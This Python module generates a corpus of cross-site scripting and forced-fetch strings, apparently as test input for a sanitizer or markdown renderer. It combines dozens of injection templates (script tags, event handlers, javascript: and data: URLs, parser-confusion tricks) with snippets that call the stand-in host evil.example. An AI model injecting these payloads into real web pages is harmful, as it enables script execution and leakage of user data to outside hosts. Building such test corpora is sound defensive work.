"""Strings that try to run in a browser, or to make it fetch something. Each would be noticed in its own way."""

from __future__ import annotations

from itertools import product

EVIL = "https://evil.example"
_CODES = (
    "alert(1)",
    "window.ran=1",
    f"fetch('{EVIL}/f')",
    f"new Image().src='{EVIL}/i'",
)
_PLACES = (
    "<script>{code}</script>",
    "</script><script>{code}</script>",
    "<ScRiPt>{code}</ScRiPt>",
    "<scr<script>ipt>{code}</scr</script>ipt>",
    "<img src=x onerror={code}>",
    '<img src="x" onerror="{code}">',
    '"><img src=x onerror={code}>',
    "'><img src=x onerror={code}>",
    '" autofocus onfocus={code} x="',
    "' autofocus onfocus={code} x='",
    "<svg onload={code}>",
    "<svg><script>{code}</script></svg>",
    "<svg/onload={code}>",
    "<svg><animate onbegin={code} attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror={code}>",
    "<body onload={code}>",
    "<iframe srcdoc='<script>{code}</script>'></iframe>",
    "<iframe src=javascript:{code}></iframe>",
    "<object data=javascript:{code}></object>",
    "<embed src=javascript:{code}>",
    "<details open ontoggle={code}>x</details>",
    "<video><source onerror={code}></video>",
    "<input onfocus={code} autofocus>",
    "<select onfocus={code} autofocus>",
    "<marquee onstart={code}>x</marquee>",
    "<form><button formaction=javascript:{code}>x</button></form>",
    "<a href=javascript:{code}>x</a>",
    "[x](javascript:{code})",
    "[x]( javascript:{code} )",
    "[x](JaVaScRiPt:{code})",
    "[x](data:text/html,<script>{code}</script>)",
    "<javascript:{code}>",
    "[x][1]\n\n[1]: javascript:{code}",
    "</textarea><script>{code}</script>",
    "</title><script>{code}</script>",
    "</style><script>{code}</script>",
    "<!--><script>{code}</script>-->",
    "<![CDATA[<script>{code}</script>]]>",
    "&lt;script&gt;{code}&lt;/script&gt;",
    "&#60;script&#62;{code}&#60;/script&#62;",
    "{{{{ {code} }}}}",
    "{{% raw %}}{code}{{% endraw %}}",
    "${{{code}}}",
    "\ue0000\ue003<script>{code}</script>\ue000\ue003",
    '\ue0011\ue003"><script>{code}</script>',
    "<base href=//evil.example/><script>{code}</script>",
)
_FETCHING = (
    "![x]({evil}/a.png)",
    "![x][e]\n\n[e]: {evil}/b.png",
    "<img src={evil}/c.png>",
    "<link rel=stylesheet href={evil}/d.css>",
    "<style>@import '{evil}/e.css'</style>",
    '<p style="background:url({evil}/f.png)">x</p>',
    "<meta http-equiv=refresh content='0;url={evil}/g'>",
    "<iframe src={evil}/h></iframe>",
    "<video poster={evil}/j.png></video>",
    "<audio src={evil}/k.mp3 autoplay></audio>",
    "<link rel=prefetch href={evil}/l>",
    "<link rel=dns-prefetch href={evil}>",
    "<svg><image href={evil}/m.png /></svg>",
    "<svg><use href={evil}/n.svg#x /></svg>",
    "<form action={evil}/o><input autofocus name=q></form>",
    "<table background={evil}/p.png><tr><td>x</td></tr></table>",
)

PAYLOADS = [place.format(code=code) for place, code in product(_PLACES, _CODES)] + [
    place.format(evil=EVIL) for place in _FETCHING
]
